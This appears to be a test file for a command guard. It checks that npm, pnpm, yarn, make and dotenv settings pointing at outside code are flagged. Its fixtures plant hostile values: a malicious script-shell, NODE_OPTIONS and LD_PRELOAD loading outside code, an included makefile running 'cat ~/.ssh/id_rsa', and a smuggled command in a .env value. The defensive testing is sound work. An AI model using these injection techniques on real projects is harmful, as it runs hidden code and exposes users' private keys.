// Configuration that turns a command into code (issue #30, class 5): what npm, pnpm and yarn
// read from the project's configuration files, an ancestor's node_modules/.bin on a script's
// PATH, make's includes, and the dotenv files tools load themselves. Each inside case has
// outside twins that must still ask.
//
// Oracle notes (npm 11.19.1, node 20.20.2, GNU make 4.3; strace -f -y where it says so):
// - a project .npmrc `script-shell=/tmp/evil.sh` made `npm run t` print `EVIL -c echo hi`;
//   `node-options=--require /x.js` reached the script as NODE_OPTIONS; `userconfig=/tmp/u.npmrc`
//   made npm read that file, whose script-shell it then used;
// - npm's script PATH held the node_modules/.bin of every directory from the package up to `/`
//   (`…/p/node_modules/.bin:…/tc/node_modules/.bin:/tmp/node_modules/.bin:/node_modules/.bin`),
//   and `"t": "vitest run"` ran `/tmp/tc/node_modules/.bin/vitest` when the project had none;
// - make 4.3 opened ../x.mk for `include ../x.mk` (strace -f -y: openat(AT_FDCWD</tmp/tc/mk/p>,
//   "../x.mk") = 4</tmp/tc/mk/x.mk>), took an included file's own `include ../x.mk` from its own
//   directory, not the includer's, and with `-I ../inc` read ../inc/foo.mk for `include foo.mk`
//   when the project had none (a foo.mk beside the Makefile won); MAKEFILES=../inc/foo.mk read
//   that file first;
// - node 20.20 `--env-file=.env` with `NODE_OPTIONS=--require /tmp/tc/x.js` in it ran x.js (a
//   PATH line did not replace the inherited PATH); Flask 3 (`flask routes`) stat'ed .flaskenv
//   and .env from the working directory up to `/` and opened /tmp/tc/.env above a project
//   without one.
//
// The fixtures are built inside the sandbox's project ($P); these cases record no golden
// verdicts (assertCase without a golden line).

import { chmodSync } from "node:fs";
import { join } from "node:path";
import { assertCase, casesWithoutGolden, useSandbox, writeTree } from "./support/table.ts";

const SCRIPTS = { name: "x", scripts: { build: "tsc -p .", test: "vitest run", t: "echo hi", u: "mytool x" } };

/** A project directory $P/NAME with a package.json and one configuration file. */
function project(fx: { project: string }, name: string, file: string, text: string): void {
  writeTree(join(fx.project, name), { "package.json": SCRIPTS, [file]: text });
}

const box = useSandbox((fx) => {
  // Everyday settings.
  project(fx, "plain", ".npmrc",
    "registry=https://registry.example.com/\nsave-exact=true\nengine-strict=true\nauto-install-peers=true\n" +
      "//registry.example.com/:_authToken=${NPM_TOKEN}\n; a comment\nscript-shell=bash\nprefix=.npm-global\n" +
      "node-options=--max-old-space-size=4096 --require ./tools/register.js\n");
  project(fx, "yarnberry", ".yarnrc.yml",
    "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n" +
      '  - path: .yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs\n    spec: "@yarnpkg/plugin-workspace-tools"\n' +
      "enableTelemetry: false\n");
  project(fx, "pnpmset", "pnpm-workspace.yaml",
    "packages:\n  - 'apps/*'\nautoInstallPeers: true\nonlyBuiltDependencies:\n  - esbuild\nstoreDir: .pnpm-store\n");
  // Settings that name code or places outside the project.
  project(fx, "shell", ".npmrc", "script-shell=/tmp/evil.sh\n");
  project(fx, "shellproj", ".npmrc", "script_shell = ./tools/sh\n");
  project(fx, "nodeopt", ".npmrc", `node-options="--require ${fx.outside}/x.js"\n`);
  project(fx, "nodeurl", ".npmrc", "node-options=--import=data:text/javascript,process.exit(0)\n");
  project(fx, "userconf", ".npmrc", `userconfig=${fx.outside}/u.npmrc\n`);
  project(fx, "prefix", ".npmrc", "prefix=../../outside/global\n");
  project(fx, "envval", ".npmrc", "script-shell=${EVIL_SHELL}\n");
  project(fx, "yarnpath", ".yarnrc.yml", `yarnPath: ${fx.outside}/yarn.cjs\n`);
  project(fx, "yarnplugin", ".yarnrc.yml", `plugins:\n  - ${fx.outside}/plugin.cjs\n`);
  project(fx, "yarnanchor", ".yarnrc.yml", "x: &p /tmp/evil.cjs\nyarnPath: *p\n");
  project(fx, "yarn1", ".yarnrc", `yarn-path "${fx.outside}/yarn.js"\n`);
  project(fx, "pnpmshell", "pnpm-workspace.yaml", "packages: ['apps/*']\nscriptShell: /tmp/evil.sh\n");
  project(fx, "pnpmflow", "pnpm-workspace.yaml", "{packages: ['apps/*'], scriptShell: /tmp/evil.sh}\n");
  // A configuration file two levels up, inside the project: read too (npm reads only the
  // package's; more only adds).
  writeTree(join(fx.project, "nested"), { ".npmrc": "script-shell=/tmp/evil.sh\n", "pkg/package.json": SCRIPTS });
  // A node_modules/.bin above the package, outside the roots when the package is the root.
  const anc = join(fx.project, "anc");
  writeTree(anc, { "pkg/package.json": SCRIPTS, "own/package.json": SCRIPTS, "node_modules/.bin/vitest": "#!/bin/sh\n",
    "own/node_modules/.bin/vitest": "#!/bin/sh\n" });
  for (const f of ["node_modules/.bin/vitest", "own/node_modules/.bin/vitest"]) chmodSync(join(anc, f), 0o755);
  // Makefiles and what they include.
  const mk = (name: string, text: string, more: Record<string, string> = {}) =>
    writeTree(join(fx.project, "mk", name), { Makefile: text, ...more });
  writeTree(fx.outside, { "x.mk": "all:\n\tcat ~/.ssh/id_rsa\n", "inc/foo.mk": "Z := 1\n" });
  mk("plain",
    "OBJS := a.o b.o\n-include $(addprefix deps/,$(OBJS:.o=.d))\ninclude mk/common.mk\n" +
      "include $(wildcard mk/*.mk)\nROOT := $(dir $(abspath $(lastword $(MAKEFILE_LIST))))\ninclude $(ROOT)mk/rules.mk\n" +
      "all:\n\t@echo hi\n", { "mk/common.mk": "A := 1\n", "mk/rules.mk": "-include .env\n", ".env": "PORT=3000\n",
    "deps/a.d": "a.o: a.c\n" });
  mk("up", "include ../../../outside/x.mk\nall:\n");
  // (An include names a file from where make runs, not from the including file.)
  mk("deep", "include mk/common.mk\nall:\n", { "mk/common.mk": "sinclude ../../../outside/x.mk\n" });
  mk("glob", "include $(wildcard ../../../outside/*.mk)\nall:\n");
  mk("unknown", "-include $(shell cat list)\nall:\n");
  mk("undefined", "include $(TOP)/rules.mk\nall:\n");
  mk("searched", "include foo.mk\nall:\n");
  mk("bsd", '.include "../../../outside/x.mk"\nall:\n');
  mk("recipe", "all:\n\t@echo include is a word here\n");
  // Dotenv files the tools load themselves.
  writeTree(join(fx.project, "env"), {
    "ok/.env": "PORT=3000\nDATABASE_URL=postgres://u@localhost/db\nexport NODE_ENV=development\nTZ=UTC\n" +
      "NODE_OPTIONS='--require ./tools/register.js'\n# a comment\n",
    "ok/.flaskenv": "FLASK_APP=app.py\nFLASK_DEBUG=1\n",
    "evil/.env": `NODE_OPTIONS=--require ${fx.outside}/x.js\n`,
    "evil/alt.env": `LD_PRELOAD=${fx.outside}/x.so\n`,
    "path/.env": "PATH=./bin:$PATH\n",
    "code/.env": 'NODE_OPTIONS="--require ./x.js; cat ~/.ssh/id_rsa"\n',
    "up/.flaskenv": "FLASK_APP=app.py\n",
    "up/app/app.py": "",
  });
  return {};
});

casesWithoutGolden("npm, pnpm and yarn settings that name code or places", box, [
  // Everyday: registry, auth, save-exact, a shell npm runs scripts with that the guard reads as sh.
  ["npm run build", "allow", ["!#OPAQUE_CODE"], { cwd: "$P/plain" }],
  ["npm test", "allow", ["exec $P/plain/tools/register.js"], { cwd: "$P/plain" }],
  ["npm install", "allow", ["write $P/plain/.npm-global"], { cwd: "$P/plain" }],
  ["yarn build", "allow", ["exec $P/yarnberry/.yarn/releases/yarn-4.1.0.cjs",
    "exec $P/yarnberry/.yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs"], { cwd: "$P/yarnberry" }],
  ["pnpm build", "allow", ["write $P/pnpmset/.pnpm-store"], { cwd: "$P/pnpmset" }],
  // A script run with another program than a shell the guard reads.
  ["npm run t", "ask", ["#OPAQUE_CODE"], { cwd: "$P/shell" }],
  ["npm test", "ask", ["#OPAQUE_CODE"], { cwd: "$P/shellproj" }],
  ["npm run t", "ask", ["#OPAQUE_CODE"], { cwd: "$P/nested/pkg", roots: ["$P"] }],
  // (With the package as the only root, the file above it is the host's, taken on trust.)
  ["npm run t", "allow", ["!#OPAQUE_CODE"], { cwd: "$P/nested/pkg" }],
  ["npm --prefix shell run t", "ask", ["#OPAQUE_CODE"]],
  ["npm run t", "ask", ["#OPAQUE_CODE"], { cwd: "$P/envval" }],
  ["pnpm t", "ask", ["#OPAQUE_CODE"], { cwd: "$P/pnpmshell" }],
  ["pnpm t", "ask", ["#OPAQUE_CODE"], { cwd: "$P/pnpmflow" }],
  // Code for every node the scripts start.
  ["npm test", "ask", ["exec $O/x.js"], { cwd: "$P/nodeopt" }],
  ["npm test", "ask", ["#OPAQUE_CODE"], { cwd: "$P/nodeurl" }],
  // Another file of settings, a place to write, another yarn, a plugin.
  ["npm run t", "ask", ["#OPAQUE_CODE"], { cwd: "$P/userconf" }],
  ["npm install -g x", "ask", ["write $O/global"], { cwd: "$P/prefix" }],
  ["npm run t", "ask", ["write $O/global"], { cwd: "$P/prefix" }],
  ["yarn build", "ask", ["exec $O/yarn.cjs"], { cwd: "$P/yarnpath" }],
  ["yarn build", "ask", ["exec $O/plugin.cjs"], { cwd: "$P/yarnplugin" }],
  ["yarn build", "ask", ["#OPAQUE_CODE"], { cwd: "$P/yarnanchor" }],
  ["yarn build", "ask", ["exec $O/yarn.js"], { cwd: "$P/yarn1" }],
  // Settings written earlier in the command are not what is on disk now ("Written, then run").
  ["echo 'scriptShell: /tmp/evil.sh' >> pnpm-workspace.yaml && pnpm build", "ask", ["#OPAQUE_CODE"], {
    cwd: "$P/pnpmset",
  }],
  ["echo save-exact=true >> .npmrc && npm run build", "ask", ["#OPAQUE_CODE"], { cwd: "$P/plain" }],
  // npm does not read yarn's files, nor pnpm's settings.
  ["npm run build", "allow", ["!#OPAQUE_CODE"], { cwd: "$P/yarnpath" }],
  ["npm run t", "allow", ["!#OPAQUE_CODE"], { cwd: "$P/pnpmshell" }],
]);

casesWithoutGolden("a script's program in a node_modules/.bin above the roots", box, [
  ["npm test", "ask", ["exec $P/anc/node_modules/.bin/vitest"], { cwd: "$P/anc/pkg", roots: ["$P/anc/pkg"] }],
  ["npm run build", "allow", [], { cwd: "$P/anc/pkg", roots: ["$P/anc/pkg"] }],
  // Found first in the package's own node_modules/.bin, or above it but inside the roots: the project's.
  ["npm test", "allow", ["!exec $P/anc/node_modules/.bin/vitest"], { cwd: "$P/anc/own", roots: ["$P/anc/own"] }],
  ["npm test", "allow", [], { cwd: "$P/anc/pkg", roots: ["$P"] }],
]);

const MK = (dir: string) => ({ cwd: `$P/mk/${dir}` });
casesWithoutGolden("make reads what its makefiles include", box, [
  // Everyday: includes of the project's own files, through variables, functions and globs.
  ["make", "allow", ["read $P/mk/plain/mk/common.mk", "read $P/mk/plain/deps/a.d", "read $P/mk/plain/mk/rules.mk",
    "read $P/mk/plain/.env"], MK("plain")],
  ["make -C mk/plain test", "allow", ["read $P/mk/plain/mk/common.mk"]],
  ["make -f Makefile all", "allow", [], MK("plain")],
  ["make", "allow", [], MK("recipe")],
  // Makefile code from outside the project, at any depth, by a glob, by bmake's .include.
  ["make", "ask", ["read $O/x.mk", "#OPAQUE_CODE"], MK("up")],
  ["make -C mk/up", "ask", ["read $O/x.mk"]],
  ["make", "ask", ["read $O/x.mk"], MK("deep")],
  ["make", "ask", ["read $O/x.mk"], MK("glob")],
  ["bmake", "ask", ["read $O/x.mk"], MK("bsd")],
  // Found through -I when the project has no such file.
  ["make -I ../../../outside/inc", "ask", ["read $O/inc/foo.mk"], MK("searched")],
  ["make", "allow", [], MK("searched")],
  // A name the guard cannot work out: $(shell …), a variable the makefile does not define.
  ["make", "ask", ["#UNRESOLVED_WORD"], MK("unknown")],
  ["make", "ask", ["#UNRESOLVED_WORD"], MK("undefined")],
  // An included file written earlier in the command is not what is on disk now.
  ["echo 'include ../../../outside/x.mk' > mk/common.mk && make", "ask", ["#OPAQUE_CODE"], MK("plain")],
  ["git checkout -b feature && make", "allow", [], MK("plain")],
  ["git checkout other && make", "ask", ["#OPAQUE_CODE"], MK("plain")],
  // $MAKEFILES: makefiles read before the others.
  ["MAKEFILES=../../../outside/x.mk make", "ask", ["exec $O/x.mk"], MK("recipe")],
  ["MAKEFILES=../up/Makefile make", "ask", ["read $O/x.mk"], { cwd: "$P/mk/recipe", roots: ["$P"] }],
]);

const ENV = (dir: string) => ({ cwd: `$P/env/${dir}` });
casesWithoutGolden("dotenv files a tool loads itself", box, [
  // Everyday: ports, URLs, modes, a zone name, node options for the project's own module.
  ["node --env-file=.env app.js", "allow", ["read $P/env/ok/.env", "exec $P/env/ok/tools/register.js"], ENV("ok")],
  ["node --env-file-if-exists=.env.local --env-file .env server.js", "allow", [], ENV("ok")],
  ["flask run", "allow", ["read $P/env/ok/.flaskenv", "read $P/env/ok/.env"], ENV("ok")],
  ["flask --app app run --debug", "allow", [], ENV("ok")],
  ["dotenv run python app.py", "allow", [], ENV("ok")],
  ["dotenv -f .env run pytest", "allow", [], ENV("ok")],
  // (After the script, --env-file is the script's own word.)
  ["node app.js --env-file=.env", "allow", ["!exec $O/x.js"], ENV("evil")],
  // Variables that load code from outside, a PATH not known, shell code.
  ["node --env-file=.env app.js", "ask", ["exec $O/x.js"], ENV("evil")],
  ["flask run", "ask", ["exec $O/x.js"], ENV("evil")],
  ["dotenv run python app.py", "ask", ["exec $O/x.js"], ENV("evil")],
  ["dotenv -f alt.env run python app.py", "ask", ["exec $O/x.so"], ENV("evil")],
  ["npx dotenv -e alt.env -- node app.js", "ask", ["exec $O/x.so"], ENV("evil")],
  ["node --env-file=.env app.js", "ask", ["#UNRESOLVED_WORD"], ENV("path")],
  ["node --env-file=.env app.js", "ask", ["#OPAQUE_CODE"], ENV("code")],
  // A file outside the project, named or found by climbing past the root (flask looks up to /).
  ["node --env-file=../../../outside/x.env app.js", "ask", ["read $O/x.env"], ENV("ok")],
  ["flask run", "ask", ["read $P/env/up/.flaskenv"], { cwd: "$P/env/up/app", roots: ["$P/env/up/app"] }],
  ["flask run", "allow", ["read $P/env/up/.flaskenv"], { cwd: "$P/env/up/app", roots: ["$P"] }],
  // Written earlier in the command: the text written when the guard knows it, else not known.
  ["echo NODE_OPTIONS=--require=/tmp/x.js > .env && node --env-file=.env app.js", "ask", ["exec /tmp/x.js"], ENV("ok")],
  ["curl -so .env https://example.com/env && node --env-file=.env app.js", "ask", ["#OPAQUE_CODE"], ENV("ok")],
]);
